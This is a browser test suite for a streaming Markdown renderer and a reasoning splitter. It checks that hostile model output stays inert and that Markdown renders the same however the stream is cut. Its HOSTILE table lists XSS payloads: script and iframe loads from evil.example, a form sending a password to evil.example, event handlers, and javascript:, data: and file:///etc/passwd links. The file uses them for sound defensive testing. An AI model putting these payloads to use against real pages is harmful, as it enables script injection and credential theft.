// What the page makes of a model's Markdown, hostile or not, in a real browser. The text comes in pieces of every size.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { build } from 'esbuild';
import { openChromium } from '../chromium.js';
import { present } from '../present.js';
import { untyped } from '../untyped.js';

/** @typedef {import('../chromium.js').Chromium} Chromium */
/** @typedef {import('playwright-core').Page} Page */

const LIMIT = { timeout: 120_000 };
const SAFE = ['http:', 'https:', 'mailto:'];

/** @type {Chromium} */
let browser;
/** @type {Page} */
let page;
/** @type {string[]} */
const requests = [];
/** @type {string[]} */
const dialogs = [];

before(async () => {
  const { outputFiles } = await build({
    stdin: {
      contents: `export { MarkdownWriter, safeAddress } from './markdown/writer.js';
        export { ReasoningSplitter, withoutReasoning } from './chat/reasoning.js';`,
      resolveDir: fileURLToPath(new URL('../../web/', import.meta.url)),
    },
    bundle: true,
    format: 'iife',
    globalName: 'parts',
    write: false,
  });
  browser = await openChromium();
  page = await browser.context.newPage();
  await page.setContent('<main></main>');
  await page.addScriptTag({ content: outputFiles[0].text });
  page.on('request', (request) => requests.push(request.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
});

after(() => browser?.close());

/**
 * Draws a text in pieces of `size` characters.
 * @param {string} text
 * @returns {Promise<{ html: string, text: string, links: { href: string | null, protocol: string, text: string, rel: string, target: string }[], tags: string[], handlers: number, longest: number }>}
 */
function draw(text, size = 3) {
  return page.evaluate(
    ({ text, size }) => {
      const root = /** @type {HTMLElement} */ (document.querySelector('main'));
      root.replaceChildren();
      const writer = new window.parts.MarkdownWriter(root, (/** @type {string} */ key) => key);
      let longest = 0;
      for (let start = 0; start < text.length; start += size) {
        const begun = performance.now();
        writer.write(text.slice(start, start + size));
        longest = Math.max(longest, performance.now() - begun);
      }
      writer.end();
      const all = [...root.querySelectorAll('*')];
      return {
        html: root.innerHTML.slice(0, 4000),
        text: root.textContent,
        tags: [...new Set(all.map(({ localName }) => localName))],
        handlers: all.filter((element) => element.getAttributeNames().some((name) => name.startsWith('on'))).length,
        links: all
          .filter((element) => element instanceof HTMLAnchorElement)
          .map((a) => ({
            href: a.getAttribute('href'),
            protocol: a.protocol,
            text: a.textContent,
            rel: a.rel,
            target: a.target,
          })),
        longest,
      };
    },
    { text, size },
  );
}

const HOSTILE = {
  'a script': '<script>alert(1)</script> and <SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'a frame': '<iframe src="https://evil.example/"></iframe>',
  'an SVG': '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  'a style': '<style>@import "https://evil.example/x.css";</style>',
  'a form': '<form action=https://evil.example><input name=password></form>',
  'HTML in a table': '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |\n',
  'HTML in code': '```html\n<script>alert(1)</script>\n```\n',
  'a language that breaks out': '```"><script>alert(1)</script>\ncode\n```\n',
  'a javascript link': '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](  javascript:alert(1))',
  'a link with a line feed in its scheme': '[click](java\tscript:alert(1))',
  'a data link': '[click](data:text/html,<script>alert(1)</script>)',
  'other schemes':
    '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://a.example/1) [d](//evil.example/x) [e](x.html)',
  'a link that breaks out of its attribute': '[click](https://a.example/" onclick="alert(1))',
  'a remote image': '![tracker](https://evil.example/pixel.png)',
  'a data image': '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  'a bare address': 'see javascript:alert(1) and http://a.example/"onmouseover="alert(1) now',
};

describe('hostile Markdown', () => {
  for (const [name, text] of Object.entries(HOSTILE)) {
    test(`${name} stays a text`, LIMIT, async () => {
      for (const size of [1, 3, 1000]) {
        const { tags, handlers, links } = await draw(text, size);
        const known =
          'p a em strong s code pre div span button svg path table thead tbody tr th td br ul ol li hr'.split(' ');
        const allowed = [...known, 'blockquote', 'h2', 'h3', 'h4', 'h5', 'h6'];
        assert.deepEqual(
          tags.filter((tag) => !allowed.includes(tag)),
          [],
        );
        assert.equal(handlers, 0);
        for (const { href, protocol, rel, target } of links) {
          assert.ok(SAFE.includes(protocol), `${href} is no link to have`);
          assert.deepEqual([rel, target], ['noopener noreferrer', '_blank']);
        }
      }
      assert.deepEqual([requests, dialogs], [[], []]);
    });
  }

  test('a remote image becomes a link that says so', LIMIT, async () => {
    const { links, tags } = await draw('![a cat](https://a.example/cat.png)');
    assert.ok(!tags.includes('img'));
    assert.deepEqual(
      links.map(({ href, text }) => [href, text]),
      [['https://a.example/cat.png', 'image a cat']],
    );
  });

  test('a line of 100,000 characters is shown whole', LIMIT, async () => {
    const { text } = await draw('x'.repeat(100_000), 500);
    assert.equal(text.length, 100_000);
  });

  const ENDLESS = {
    'an address': `https://a.example/${'x'.repeat(100_000)}`,
    'a link': `[x](${'y'.repeat(100_000)}`,
    'a language': `\`\`\`${'z'.repeat(100_000)}`,
    'a row': `|${'-'.repeat(100_000)}`,
  };
  for (const [name, endless] of Object.entries(ENDLESS)) {
    test(`${name} that never ends is shown whole, and holds nothing up`, LIMIT, async (context) => {
      const { text, longest } = await draw(endless, 500);
      assert.ok(text.length >= endless.length - 2, `${text.length} of ${endless.length} characters`);
      context.diagnostic(`longest piece ${longest.toFixed(1)} ms`);
    });
  }

  const NESTED = {
    quotes: `${'> '.repeat(500)}deep`,
    lists: Array.from({ length: 100 }, (_, depth) => `${'  '.repeat(depth)}- item ${depth}`).join('\n'),
    emphasis: '*a_b'.repeat(500),
    'emphasis behind a fence': `\`\`\`${' *a _b'.repeat(100)}\``,
    links: '[a '.repeat(500),
  };
  for (const [name, nested] of Object.entries(NESTED)) {
    test(`${name} nested without end keep their words`, LIMIT, async () => {
      for (const size of [1, 7, 5000]) {
        const { text } = await draw(nested, size);
        const words = (/** @type {string} */ value) => present(value.match(/[a-z]/g)).join('');
        assert.equal(words(text), words(nested));
      }
    });
  }
});

test('a line is read unless the search for addresses in it would take its square', LIMIT, async () => {
  for (const [count, isRead] of [
    [500, true],
    [15_000, false],
  ]) {
    const { tags, text } = await draw(`**b** ${'a.'.repeat(untyped(count))}@ end`, 50_000);
    assert.equal(tags.includes('strong'), isRead, `${count} times`);
    assert.ok(text.endsWith('.@ end'));
  }
});

describe('plain Markdown', () => {
  test('is the same however its pieces are cut', LIMIT, async () => {
    const text =
      '# Title\n\nSome **bold**, *em* and `code`.\n\n- one\n- two\n\n```js\nlet a_b = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x](https://a.example/) end\n';
    const whole = await draw(text, text.length);
    for (const size of [1, 2, 5, 13]) assert.equal((await draw(text, size)).html, whole.html);
    for (const tag of ['h2', 'strong', 'em', 'code', 'ul', 'li', 'pre', 'table', 'th', 'td', 'a']) {
      assert.ok(whole.tags.includes(tag), `${tag} in ${whole.tags}`);
    }
    assert.match(whole.text, /let a_b = 1;/);
  });

  const ODD = [
    '|--|--|\né!\n- [x] done\n',
    'é\n2) a later line\n“and one”\n- [ ] to do\n',
    '<div>\n\n\u00a0\nwords\n',
    '- a\n- b\u00a0\n  c\n',
    'a\nb\n---\nc\n===\n- d\n-\n',
  ];
  for (const text of ODD) {
    test(`is the same in pieces: ${JSON.stringify(text)}`, LIMIT, async () => {
      const whole = await draw(text, text.length);
      for (const size of [1, 2, 3, 4, 5]) assert.equal((await draw(text, size)).html, whole.html, `pieces of ${size}`);
    });
  }

  test('is the same in pieces, whatever stands beside what', LIMIT, async () => {
    const found = await page.evaluate(() => {
      const parts =
        '# |## |- |* |1. |2) |> |    |  |\t|```|~~~|```js\n|`|*|**|_|[|]|](http://a.b)|<|<b>|&amp;|\\|---\n|===\n|\n|\n\n| |word|two words|中文|。|“|$|- [ ] |\r\n|<!-- | -->|<div>\n|  \n'
          .split('|')
          .concat(['|', '|--|--|\n', '| a | b |\n']);
      let state = 7;
      const random = (/** @type {number} */ bound) => {
        state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
        return Math.floor((state / 2 ** 32) * bound);
      };
      const drawn = (/** @type {string[]} */ pieces) => {
        const root = /** @type {HTMLElement} */ (document.createElement('div'));
        const writer = new window.parts.MarkdownWriter(root, (/** @type {string} */ key) => key);
        for (const piece of pieces) writer.write(piece);
        writer.end();
        // The end of a line at the end of a paragraph is not shown.
        return root.innerHTML.replaceAll('\n</p>', '</p>');
      };
      for (let round = 0; round < 1000; round++) {
        const text = Array.from({ length: 2 + random(38) }, () => parts[random(parts.length)]).join('');
        const pieces = [];
        for (let start = 0, size; start < text.length; start += size) {
          size = 1 + random(6);
          pieces.push(text.slice(start, start + size));
        }
        const [whole, cut] = [drawn([text]), drawn(pieces)];
        if (whole !== cut) return { text, pieces, whole, cut };
      }
      return null;
    });
    assert.equal(found, null);
  });

  const KEPT = [
    'snake_case_name and __init__.py_x',
    'it costs $5, or $x and $y',
    'see [1] and ![2] and a[i]',
    'the area \\(x^2\\) and',
    'https://a.example/a_b_c is the address',
  ];
  for (const text of KEPT) {
    test(`keeps the characters of: ${text}`, LIMIT, async () => {
      const shown = (await draw(text, 1)).text;
      const plain = text.replace('__init__', 'init');
      assert.equal(shown, plain);
    });
  }

  test('a full stop behind an address is not part of it', LIMIT, async () => {
    const { links } = await draw('Look at https://a.example/x. Then go.');
    assert.deepEqual(
      links.map(({ href }) => href),
      ['https://a.example/x'],
    );
  });
});

/** @param {string} href @param {string} text */
const link = (href, text) => `<a href="${href}" rel="noopener noreferrer" target="_blank" title="${href}">${text}</a>`;
const code = (/** @type {string} */ language, /** @type {string} */ text) =>
  `<div class="code"><div class="code-head"><span class="code-language">${language}</span><button/></div>` +
  `<pre tabindex="0"><code>${text}</code></pre></div>`;
const formula = (/** @type {string} */ text) => `<span class="formula">${text}</span>`;
/** @param {string} rows */
const table = (rows) => `<div class="table" tabindex="0" role="group" aria-label="table"><table>${rows}</table></div>`;

const DRAWN = {
  'an address with parentheses': [
    '[wiki](https://a.example/Foo_(bar)) on',
    `<p>${link('https://a.example/Foo_(bar)', 'wiki')} on</p>`,
  ],
  'a refused address with parentheses': ['[js](javascript:alert(1)) on', '<p><span class="no-link">js</span> on</p>'],
  'an address with a title': ['[x](http://ok.example "title")', `<p>${link('http://ok.example/', 'x')}</p>`],
  'an address between angle brackets': [
    '<https://a.example>',
    `<p>${link('https://a.example/', 'https://a.example')}</p>`,
  ],
  'an address with an ampersand': [
    '[x](https://a.example/?a=1&amp;b=2) https://a.example/?a&b',
    `<p>${link('https://a.example/?a=1&amp;b=2', 'x')} ${link('https://a.example/?a&amp;b', 'https://a.example/?a&amp;b')}</p>`,
  ],
  'an address amid Chinese': [
    '见https://a.example/x，谢谢。',
    `<p>见${link('https://a.example/x', 'https://a.example/x')}，谢谢。</p>`,
  ],
  'a mail address': ['<me@a.example>', `<p>${link('mailto:me@a.example', 'me@a.example')}</p>`],
  'a picture that is a link': [
    '[![logo](https://a.example/l.png)](https://a.example/)',
    `<p>${link('https://a.example/', '<span class="no-link">image logo</span>')}</p>`,
  ],
  'a definition that comes later': [
    'See [this][1] and [that].\n\n> [that]\n\n[1]: https://a.example/1\n[That]: <https://a.example/2> "two"',
    `<p>See ${link('https://a.example/1', 'this')} and ${link('https://a.example/2', 'that')}.</p>` +
      `<blockquote><p>${link('https://a.example/2', 'that')}</p></blockquote>`,
  ],
  'a fence of tildes': ['~~~py\n```\nx = 1\n~~~\n~~gone~~', `${code('py', '```\nx = 1')}<p><s>gone</s></p>`],
  'tildes that are none of a strike': [
    '1~2天或3~4天, ~5 min, sometimes ~10 min, a~b~c and ~~gone~~',
    '<p>1~2天或3~4天, ~5 min, sometimes ~10 min, a~b~c and <s>gone</s></p>',
  ],
  'emphasis beside Chinese, Japanese and Korean': [
    '**注意：**这很重要，**“重点”**内容。\n\nこれは**「大事」**です。*（注）*と\n\n**중요(꼭)**합니다, ~~旧：~~新',
    '<p><strong>注意：</strong>这很重要，<strong>“重点”</strong>内容。</p>' +
      '<p>これは<strong>「大事」</strong>です。<em>（注）</em>と</p>' +
      '<p><strong>중요(꼭)</strong>합니다, <s>旧：</s>新</p>',
  ],
  'stars beside Chinese that mean none': ['2 * 3 * 4 等于 24，a**b', '<p>2 * 3 * 4 等于 24，a**b</p>'],
  'formulas with marks': [
    'so $a_1 * b * c_2$ holds, $x_i$ and $x*y*z$ hold: \\(a*b*c\\), 其中 $p_1$ 和 $p_2$; $5 *or* 6$ not',
    `<p>so ${formula('$a_1 * b * c_2$')} holds, ${formula('$x_i$')} and ${formula('$x*y*z$')} hold: ` +
      `${formula('\\(a*b*c\\)')}, 其中 ${formula('$p_1$')} 和 ${formula('$p_2$')}; $5 <em>or</em> 6$ not</p>`,
  ],
  'an indented fence': ['  ```\n  a\n    b\n  ```', code('', 'a\n  b')],
  'a fence that is not closed': ['```js\na\n\n', code('js', 'a\n')],
  'a paragraph behind a quote that ends in a list': [
    '> - l\n\ntext',
    '<blockquote><ul><li><span>l</span></li></ul></blockquote><p>text</p>',
  ],
  'a paragraph and code within an item': [
    '3. one\n\n   more\n\n   ```js\n   let a;\n     b\n   ```\n\n4. two',
    `<ol start="3"><li><p>one</p><p>more</p>${code('js', 'let a;\n  b')}</li><li><p>two</p></li></ol>`,
  ],
  'a quote within an item': [
    '- item\n\n  > quote\n- next',
    '<ul><li><p>item</p><blockquote><p>quote</p></blockquote></li><li><p>next</p></li></ul>',
  ],
  'items that a blank line parts': ['- a\n\n\n- b\n', '<ul><li><p>a</p></li><li><p>b</p></li></ul>'],
  'lists of two kinds': [
    '- a\n  1. b\n+ c',
    '<ul><li><span>a</span><ol><li><span>b</span></li></ol></li></ul><ul><li><span>c</span></li></ul>',
  ],
  tasks: [
    '- [ ] to do\n- [x] done',
    '<ul><li><span class="task">☐</span><span>to do</span></li><li><span class="task">☑</span><span>done</span></li></ul>',
  ],
  'a heading underlined': ['Title\n===\nSub\n---\ntext', '<h2>Title</h2><h3>Sub</h3><p>text</p>'],
  'a table behind a line': [
    'text\n| a | b |\n|:-:|--:|\n| `x` | 1<br>2 |\n',
    `<p>text</p>${table(
      '<thead><tr><th class="align-center">a</th><th class="align-right">b</th></tr></thead>' +
        '<tbody><tr><td class="align-center"><code>x</code></td><td class="align-right">1<br>2</td></tr></tbody>',
    )}`,
  ],
  'what looks like a table until its second line ends': [
    'text\na | b\n---|---|---\n',
    '<p>text<br>a | b<br>---|---|---</p>',
  ],
  'a formula of several lines': ['\\[\na\n+ b_1\n\\]\nend', '<p class="plain">\\[\na\n+ b_1\n\\]</p><p>end</p>'],
  references: ['&copy; &lt;b&gt; &#65; &nothing; AT&T', '<p>© &lt;b&gt; A &amp;nothing; AT&amp;T</p>'],
  'HTML amid a text': ['a <b>c</b>', '<p>a &lt;b&gt;c&lt;/b&gt;</p>'],
  'lines that are indented': [' a\n  b `c`', '<p>a<br>b <code>c</code></p>'],
  'lines that end in two characters': ['a\r\n\r\nb\rc', '<p>a</p><p>b<br>c</p>'],
};

describe('Markdown is drawn as CommonMark and GFM have it, wherever it is cut:', () => {
  for (const [name, [text, expected]] of Object.entries(DRAWN)) {
    test(name, LIMIT, async () => {
      for (const size of [1, 2, 5, 1000]) {
        const { html } = await draw(text, size);
        const plain = html.replace(/<button.*?<\/button>/g, '<button/>').replace(/ dir="\w+"/g, '');
        assert.equal(plain, expected, `pieces of ${size}`);
      }
    });
  }
});

describe('Markdown that grows', () => {
  const grow = (/** @type {string[]} */ pieces) =>
    page.evaluate((given) => {
      const root = /** @type {HTMLElement} */ (document.querySelector('main'));
      root.replaceChildren();
      const writer = new window.parts.MarkdownWriter(root, (/** @type {string} */ key) => key);
      const seen = new Map();
      const watch = () => {
        const walker = document.createTreeWalker(root);
        while (walker.nextNode())
          if (!seen.has(walker.currentNode))
            seen.set(walker.currentNode, `${walker.currentNode.nodeName} ${walker.currentNode.textContent}`);
      };
      for (const piece of given) {
        writer.write(piece);
        watch();
      }
      writer.end();
      watch();
      const lost = [...seen].filter(([node]) => !root.contains(node)).map(([, name]) => name);
      return { lost, text: root.textContent, tags: [...root.children].map(({ localName }) => localName) };
    }, pieces);

  test('keeps every node that it has drawn while words, code, items and rows are added', LIMIT, async () => {
    const { lost, tags } = await grow([
      ...['One ', 'two **three** ', 'four.\n\n', '```js\nlet a', ' = 1;\nlet b;\n', '```\n\n'],
      ...['- one\n- two ', '`code` more\n- three\n\nText\n\n', '| a | b |\n|---|---|\n| 1 | 2 |\n', '| 3 | 4 |\n'],
    ]);
    assert.deepEqual(lost, []);
    assert.deepEqual(tags, ['p', 'div', 'ul', 'p', 'div']);
  });

  test('keeps the node of code of ten thousand lines', LIMIT, async () => {
    const lines = Array.from({ length: 10_000 }, (_, index) => `line ${index} of the code\n`);
    const { lost, text } = await grow(['```\n', ...lines, '```\nend']);
    assert.deepEqual(lost, []);
    assert.equal(text, `code.copy${lines.join('').slice(0, -1)}end`);
  });

  const LONG = {
    list: Array.from({ length: 3000 }, (_, index) => `${index + 1}. item ${index}\n`).join(''),
    paragraph: 'word and *word* and [word\n'.repeat(3000),
    quote: '> - a\nlazy\n> - b\n'.repeat(1700),
    'line of stars': 'a *b '.repeat(10_000),
    'row of cells': `${'|a'.repeat(2500)}|\n${'|-'.repeat(2500)}|\n${'|b\n'.repeat(5000)}`,
  };
  for (const [name, long] of Object.entries(LONG)) {
    test(`keeps all words of a ${name} that is longer than any`, LIMIT, async () => {
      const words = (/** @type {string} */ value) =>
        present(value.match(/[a-z]+\s?/g))
          .join('')
          .replace(/\s/g, '');
      assert.equal(words((await draw(long, 3000)).text), words(long));
    });
  }
});

describe('reasoning', () => {
  /** @param {string} text @param {number} size */
  const split = (text, size) =>
    page.evaluate(
      ({ text, size }) => {
        const splitter = new window.parts.ReasoningSplitter();
        /** @type {Record<string, string>} */
        const found = { reasoning: '', answer: '' };
        /** @param {{ kind: string, text: string }[]} list */
        const take = (list) => {
          for (const part of list) found[part.kind] += part.text;
        };
        for (let start = 0; start < text.length; start += size) take(splitter.push(text.slice(start, start + size)));
        take(splitter.end());
        return found;
      },
      { text, size },
    );
  /** @type {[string, { reasoning: string, answer: string }][]} */
  const CASES = [
    ['<think>\nHm.\n</think>\n\nYes.', { reasoning: 'Hm.\n', answer: 'Yes.' }],
    ['Plain.', { reasoning: '', answer: 'Plain.' }],
    ['<think>never ends </thin', { reasoning: 'never ends </thin', answer: '' }],
    ['a <think> later', { reasoning: '', answer: 'a <think> later' }],
    ['<thi', { reasoning: '', answer: '<thi' }],
    ['[THINK]Hm.[/THINK]Yes.', { reasoning: 'Hm.', answer: 'Yes.' }],
    ['[THINK]A </think> b[/THI', { reasoning: 'A </think> b[/THI', answer: '' }],
    ['<|START_THINKING|>Hm.<|END_THINKING|>Yes.', { reasoning: 'Hm.', answer: 'Yes.' }],
    ['<|START_T', { reasoning: '', answer: '<|START_T' }],
  ];
  for (const [text, expected] of CASES) {
    test(`is told from the answer in: ${JSON.stringify(text)}`, LIMIT, async () => {
      for (const size of [1, 2, 5, 100]) assert.deepEqual(await split(text, size), expected);
    });
  }
});

test('each block is written from the side that its first letter asks for, code from the left', LIMIT, async () => {
  await draw(
    'مرحبا، كيف حالك؟\n\nHello.\n\n- שלום\n- and more\n\n```js\nlet a;\n```\n\n| مرحبا | b |\n|---|---|\n| c | d |\n',
  );
  const directions = await page.evaluate(() =>
    [...document.querySelectorAll('main > *')].map((block) => [block.localName, getComputedStyle(block).direction]),
  );
  assert.deepEqual(directions, [
    ...[
      ['p', 'rtl'],
      ['p', 'ltr'],
      ['ul', 'rtl'],
    ],
    ...[
      ['div', 'ltr'],
      ['div', 'rtl'],
    ],
  ]);
});
